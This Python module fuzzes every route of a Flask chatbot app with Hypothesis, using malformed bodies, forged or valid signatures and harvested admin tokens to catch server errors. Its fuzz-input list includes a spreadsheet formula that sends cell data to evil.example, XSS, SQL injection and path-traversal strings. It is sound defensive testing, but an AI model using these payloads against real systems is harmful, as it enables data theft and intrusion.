"""Property-based fuzzing of every HTTP route of the real app (hypothesis), shared by tests/channel/test_fuzz.py (a
bounded run in `make test`) and bench/bench_fuzz.py (the long run behind bench/RESULTS.md).

Routes are read from app.url_map, so a new route is fuzzed without touching this file. Each request picks a route and
one of its methods (sometimes another method), fills the route's variables, and sends random JSON of every shape and
type, JSON shaped like each channel's body, nesting past any limit, raw bytes, form fields or nothing; text with lone
surrogates, NUL, control and bidi characters, emoji, full-width forms, formulas and markup, numbers past 2^31 and
2^63; and random Authorization, Content-Type, Origin and X-Forwarded-For headers. LINE's and the payment sandbox's
signatures are sometimes valid, so bodies get past the signature check; so are a console session (signed in as an
admin) with its CSRF token, a payment page's form token and a widget id, harvested from the running app. Requests come from many
client addresses. Header values reach the app as a WSGI server hands them over: the UTF-8 bytes read as Latin-1.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import re
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

from hypothesis import strategies as st

LINE_SECRET = "fuzz-line-channel-secret"
PAYMENT_SECRET = "fuzz-payment-sandbox-secret"
# The environment of the fuzzed bot: every channel and page switched on, so that nothing answers "not configured"
# (503), LINE's API at a closed port (replies fail fast in the background), limits out of the fuzzer's way.
FUZZ_ENV = {
    "LINE_CHANNEL_SECRET": LINE_SECRET,
    "LINE_CHANNEL_ACCESS_TOKEN": "fuzz-line-access-token",
    "LINE_API_BASE_URL": "http://127.0.0.1:9",
    "PAYMENT_SANDBOX_SECRET": PAYMENT_SECRET,
    "BOT_RATE_LIMIT_PER_SENDER": "1000000/minute",
    "BOT_RATE_LIMIT_PER_IP": "1000000/minute",
}
SKIPPED_METHODS = {"HEAD", "OPTIONS"}
OTHER_METHODS = ["GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD"]
# Field names the routes read, so that random objects often carry them.
FIELDS = [
    "sender", "message", "text", "metadata", "turn_id", "value", "events", "destination", "type", "source", "userId",
    "groupId", "replyToken", "webhookEventId", "postback", "data", "id", "amount", "merchant_ref", "checkout_id",
    "csrf_token", "status", "date", "area", "capacity", "token", "notice", "message_id", "lang", "easy_japanese",
    "name", "password", "password_again", "role", "active", "next", "page", "actor",
]  # fmt: skip
SPECIAL_TEXT = [
    "", " ", "\ud800", "a\udfffb", "\x00", "a\x00b", "\u202eevil\u202c", "\u200b", "\ufeff", "🗑️👨‍👩‍👧", "０９０－１２３４－５６７８",
    "ＡＢＣ１２３", "ｱｲｳｴｵ", "=HYPERLINK(\"http://evil.example/?p=\"&F3,\"x\")", "-ROW()", "+1", "@SUM(A1)", "\tx",
    "\rx", "<script>alert(1)</script>", "' OR 1=1 --", "\"; DROP TABLE turns; --", "../../etc/passwd", "%00", "\r\n",
    "あ" * 101, "あ" * 5000, "9" * 30, "2147483648", "-1", "0", "1e400", "NaN", "2026-02-30", "9999-12-31",
    "/restart", "/general_greet", "/bulky_book", '/general_inform{"bulky_item_choice":[{"id":"sofa","quantity":10,"fee":1}]}',
    "粗大ごみの収集を申し込みたい", "予約を確認したい", "ペットボトルは何ごみ？", "Uxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
]  # fmt: skip
INTEGERS = [0, 1, -1, 2**31 - 1, 2**31, -(2**31) - 1, 2**63, -(2**63) - 1, 10**30]
CONTENT_TYPES = [
    "application/json", "application/json; charset=utf-8", "application/json; charset=shift_jis", "text/plain",
    "application/x-www-form-urlencoded", "multipart/form-data; boundary=fuzz", "text/html", "", "application/jsonx",
]  # fmt: skip


@dataclass(frozen=True)
class Route:
    rule: str
    methods: tuple[str, ...]

    def path(self, values: dict[str, str]) -> str:
        return re.sub(r"<(?:[^:>]+:)?([^>]+)>", lambda m: _quoted(values[m.group(1)]), self.rule)

    @property
    def variables(self) -> list[str]:
        return re.findall(r"<(?:[^:>]+:)?([^>]+)>", self.rule)


@dataclass(frozen=True)
class Request:
    method: str
    path: str
    headers: dict[str, str]
    body: bytes
    query: str = ""
    client_ip: str = "192.0.2.1"

    def describe(self) -> str:
        query = f"?{self.query}" if self.query else ""
        return f"{self.method} {self.path}{query} from {self.client_ip} {self.headers} {self.body[:300]!r}"


@dataclass
class Seeds:
    """Valid secrets and ids harvested from the running app: the fuzzer mixes them in to get past the checks."""

    values: list[str] = field(default_factory=list)


def routes(app) -> list[Route]:
    """Every route of the app but Flask's static files, with its methods."""
    found = {
        Route(rule.rule, tuple(sorted((rule.methods or set()) - SKIPPED_METHODS)))
        for rule in app.url_map.iter_rules()
        if rule.endpoint != "static"
    }
    return sorted(found, key=lambda r: r.rule)


def harvest(client) -> Seeds:
    """Tokens a real client would hold: a console session (`client` signs in as an admin) and its CSRF token, a
    payment page's charge id and form token, a widget session id (where the app issues them)."""
    from tests.support.console_support import PASSWORD, add_user, sign_in

    seeds = Seeds()
    add_user(client.application.config["BOT_SETTINGS"].database_url, "fuzz-admin", "admin")
    sign_in(client, "fuzz-admin")
    page = client.get("/admin/users").get_data(as_text=True)
    seeds.values += ["fuzz-admin", PASSWORD, *re.findall(r'name="csrf_token" value="([^"]+)"', page)]
    ledger = client.application.extensions.get("payment_sandbox")
    if ledger is not None:
        charge = ledger.open("B-FUZZ-0001", 2200, "粗大ごみ収集手数料", "http://127.0.0.1:9/cb")
        pay = client.get(f"/pay/sandbox/{charge.id}").get_data(as_text=True)
        seeds.values += [charge.id, *re.findall(r'name="token" value="([^"]+)"', pay)]
    if any(r.rule == "/widget/session" for r in client.application.url_map.iter_rules()):
        session = client.post("/widget/session", json={})
        if session.is_json and isinstance(session.get_json(), dict):
            seeds.values += [v for v in session.get_json().values() if isinstance(v, str)]
    return seeds


def _quoted(text: str) -> str:
    """Percent-encoded UTF-8 bytes of `text`, lone surrogates included (invalid UTF-8 on purpose)."""
    return quote(text.encode("utf-8", "surrogatepass"), safe="")


def _wire(text: str) -> str:
    """What a WSGI server hands the app for header value `text`: its UTF-8 bytes read as Latin-1, without the line
    breaks that would end the header on the wire."""
    return text.encode("utf-8", "surrogatepass").decode("latin-1").replace("\r", "").replace("\n", "")


def text_values(seeds: Seeds) -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(SPECIAL_TEXT),
        st.text(st.characters(exclude_categories=()), max_size=40),
        st.text(max_size=300),
        st.sampled_from(seeds.values or [""]),
    )


def json_values(seeds: Seeds) -> st.SearchStrategy[Any]:
    scalars = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.sampled_from(INTEGERS),
        st.floats(allow_nan=True, allow_infinity=True),
        text_values(seeds),
    )
    keys = st.one_of(st.sampled_from(FIELDS), text_values(seeds))
    return st.recursive(
        scalars,
        lambda children: st.lists(children, max_size=5) | st.dictionaries(keys, children, max_size=6),
        max_leaves=20,
    )


def shaped_bodies(seeds: Seeds) -> st.SearchStrategy[Any]:
    """Bodies shaped like each channel's, with random values: they get past the first checks."""
    text, anything = text_values(seeds), json_values(seeds)
    number = st.one_of(st.integers(), st.sampled_from(INTEGERS), anything)
    chat = st.fixed_dictionaries(
        {"sender": text, "message": text},
        optional={"metadata": anything, "text": text, "turn_id": number, "value": st.sampled_from(["helpful", "x"])},
    )
    source = st.fixed_dictionaries(
        {"type": st.sampled_from(["user", "group", "room", "x"]), "userId": text},
        optional={"groupId": text, "roomId": text},
    )
    event = st.fixed_dictionaries(
        {
            "type": st.sampled_from(
                ["message", "follow", "unfollow", "postback", "join", "leave", "memberJoined", "x"]
            ),
            "source": source,
            "timestamp": number,
            "mode": st.sampled_from(["active", "standby"]),
            "webhookEventId": text,
            "deliveryContext": st.fixed_dictionaries({"isRedelivery": st.booleans()}),
        },
        optional={
            "replyToken": text,
            "message": st.fixed_dictionaries(
                {"type": st.sampled_from(["text", "sticker", "image", "location"]), "id": text},
                optional={"text": text, "latitude": anything, "longitude": anything, "address": text},
            ),
            "postback": st.fixed_dictionaries({"data": text}, optional={"params": anything}),
        },
    )
    line = st.fixed_dictionaries({"destination": text, "events": st.lists(event, max_size=3)})
    payment = st.fixed_dictionaries(
        {
            "id": text,
            "type": st.sampled_from(["payment.succeeded", "refund.succeeded", "payment.failed", "x"]),
            "data": st.fixed_dictionaries({"merchant_ref": text, "checkout_id": text, "amount": number}),
        }
    )
    return st.one_of(chat, line, payment)


def _nested(depth: int, kind: str) -> bytes:
    return ("[" * depth + "]" * depth if kind == "array" else '{"a":' * depth + "1" + "}" * depth).encode()


def bodies(seeds: Seeds) -> st.SearchStrategy[tuple[bytes, str | None]]:
    """(body, default Content-Type) pairs."""
    as_json = st.builds(
        lambda value, ascii_only: json.dumps(value, ensure_ascii=ascii_only).encode("utf-8", "surrogatepass"),
        st.one_of(shaped_bodies(seeds), json_values(seeds)),
        st.booleans(),
    )
    form = st.dictionaries(st.sampled_from(FIELDS), text_values(seeds), max_size=6).map(
        lambda fields: "&".join(f"{_quoted(k)}={_quoted(v)}" for k, v in fields.items()).encode()
    )
    return st.one_of(
        st.tuples(as_json, st.just("application/json")),
        st.tuples(as_json, st.just("application/json")),
        st.tuples(st.builds(_nested, st.sampled_from([33, 1000, 100_000]), st.sampled_from(["array", "object"])), st.just("application/json")),
        st.tuples(form, st.just("application/x-www-form-urlencoded")),
        st.tuples(st.binary(max_size=500), st.sampled_from(CONTENT_TYPES)),
        st.tuples(st.just(b""), st.none()),
        st.tuples(st.just(b'{"sender": "' + b"a" * (1100 * 1024) + b'"}'), st.just("application/json")),
    )  # fmt: skip


def line_signature(body: bytes) -> str:
    return base64.b64encode(hmac.new(LINE_SECRET.encode(), body, hashlib.sha256).digest()).decode()


def sandbox_signature(body: bytes) -> str:
    timestamp = int(time.time())
    digest = hmac.new(PAYMENT_SECRET.encode(), f"{timestamp}.".encode() + body, hashlib.sha256).hexdigest()
    return f"t={timestamp},v1={digest}"


def _authorization(seeds: Seeds) -> st.SearchStrategy[str | None]:
    text = text_values(seeds)
    b64 = st.binary(max_size=40).map(lambda b: base64.b64encode(b).decode())
    return st.one_of(
        st.none(),
        st.sampled_from(["Basic あ", "Basic ", "Basic ===", "Bearer"]),
        b64.map(lambda v: f"Basic {v}"),
        text.map(lambda v: f"Bearer {v}"),
        st.tuples(text, text).map(lambda p: f"{p[0]} {p[1]}"),
    )


def requests_for(all_routes: list[Route], seeds: Seeds) -> st.SearchStrategy[Request]:
    """Random requests to `all_routes` (the strategies are built once: building them per draw costs more than the
    requests themselves)."""
    text, body_strategy, authorization_strategy = text_values(seeds), bodies(seeds), _authorization(seeds)
    path_value = st.one_of(st.sampled_from(["sandbox", "B-0001", "sbx_" + "a" * 24, "0", "-1", "2147483648"]), text)
    # many clients, as on the internet: one address's failed console sign-ins do not lock every other request out
    client_ip = st.sampled_from([f"192.0.2.{i}" for i in range(1, 255)])
    query_strategy = st.dictionaries(st.sampled_from(FIELDS), text, max_size=3).map(
        lambda fields: "&".join(f"{_quoted(k)}={_quoted(v)}" for k, v in fields.items())
    )

    @st.composite
    def request(draw: Callable[..., Any]) -> Request:
        route = draw(st.sampled_from(all_routes))
        own = draw(st.integers(0, 9)) > 0 and route.methods
        method = draw(st.sampled_from(route.methods if own else OTHER_METHODS))
        path = route.path({name: draw(path_value) for name in route.variables})
        with_body = method not in ("GET", "HEAD") or draw(st.booleans())
        body, content_type = draw(body_strategy) if with_body else (b"", None)
        headers: dict[str, str] = {}
        if draw(st.integers(0, 4)) == 0:
            content_type = draw(st.sampled_from(CONTENT_TYPES))
        if content_type:
            headers["Content-Type"] = content_type
        authorization = draw(authorization_strategy)
        if authorization is not None:
            headers["Authorization"] = _wire(authorization)
        signature = draw(st.sampled_from(["none", "valid", "random"]))
        if signature != "none":
            valid = signature == "valid"
            headers["X-Line-Signature"] = line_signature(body) if valid else _wire(draw(text))
            headers["X-Sandbox-Signature"] = sandbox_signature(body) if valid else _wire(draw(text))
        for name in ("Origin", "X-Forwarded-For", "X-Forwarded-Proto"):
            if draw(st.integers(0, 5)) == 0:
                headers[name] = _wire(draw(text))
        return Request(method, path, headers, body, draw(query_strategy), draw(client_ip))

    return request()


def send(client, request: Request):
    return client.open(
        request.path,
        method=request.method,
        headers=request.headers,
        data=request.body,
        query_string=request.query,
        environ_base={"REMOTE_ADDR": request.client_ip},
    )


def server_error(response) -> str | None:
    """Why a response breaks the rule (5xx, or a JSON error without its status), or None."""
    if response.status_code >= 500:
        return f"answered {response.status_code}: {response.get_data(as_text=True)[:300]}"
    if response.status_code >= 400 and response.is_json and response.data:  # HEAD: no body
        body = response.get_json(silent=True)
        if not isinstance(body, dict) or body.get("status") != response.status_code or not body.get("error"):
            return f"a {response.status_code} without the JSON error shape: {response.get_data(as_text=True)[:300]}"
    return None
